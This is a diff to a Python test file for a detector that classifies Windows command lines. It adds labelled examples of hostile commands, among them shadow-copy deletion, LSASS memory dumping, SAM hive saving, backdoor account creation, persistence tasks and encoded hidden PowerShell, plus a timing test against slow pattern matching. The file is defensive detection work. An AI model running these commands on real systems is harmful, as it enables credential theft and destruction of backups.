@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from scripts.procmon.findings.command_lines import telling
@@ -17,6 +19,12 @@ ORDINARY = [
     r"certutil -hashfile x.bin SHA256",
     r"netsh interface show interface",
     "chrome.exe --type=renderer --enc --windowed=1",
+    r"schtasks.exe /create /tn Vendor /tr C:\Progra~1\Vendor\update.exe /sc daily",
+    r"schtasks /query /tn \Microsoft\Windows\Defrag",
+    "net user",
+    "net use X: \\\\server\\share",
+    r"reg save HKCU\Software\Vendor C:\backup.hiv",
+    r"procdump64.exe -ma notepad.exe C:\dumps",
     "",
 ]
 TELLING = {
@@ -29,6 +37,13 @@ TELLING = {
     "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA": "hidden-script",
     "x.exe -noprofile -windowstyle hidden -ep bypass -command [Convert]::('gnirtS46esabmorF')": "hidden-script",
     "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe": "download-tool",
+    "cmd.exe /c vss^admin del^ete sha^dows /all": "shadow-copies",
+    r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\x.dmp full": "password-memory",
+    "procdump -ma lsass.exe": "password-memory",
+    r"reg save hklm\sam c:\x": "password-hives",
+    r"schtasks /create /tn x /tr C:\Users\Public\a.exe /sc minute": "task-made",
+    "net user hack P@ss /add": "account-made",
+    "powershell -w h -nop -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=": "hidden-script",
     r'rundll32.exe "C:\Documents and Settings\a\Local Settings\Application Data\v\x.dll",Run': "library-from-user-folder",
 }
 
@@ -45,5 +60,26 @@ def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
     assert found["id"] == known
 
 
-def test_a_hostile_command_line_is_read_in_time() -> None:
-    assert telling("wmic " * 200_000) is None
+@pytest.mark.parametrize(
+    "words",
+    [
+        "powershell iex ",
+        "wmic shadowcopy ",
+        "netsh firewall ",
+        "vssadmin ",
+        "set-mppreference ",
+        "rundll32 c:\\users\\temp\\",
+        "mshta ",
+        "a" * 50 + "=",
+        " ",
+        "-e ",
+        "powershell iex download^",
+    ],
+)
+def test_a_hostile_command_line_is_read_in_time(words: str) -> None:
+    begun = time.perf_counter()
+    for number in range(20):
+        telling(words * (32_000 // len(words)) + str(number))
+        telling((words * 4_000)[: 4_000 - number])
+    # 40 of these took two minutes where patterns tried every way to fill the gaps between their words.
+    assert time.perf_counter() - begun < 2
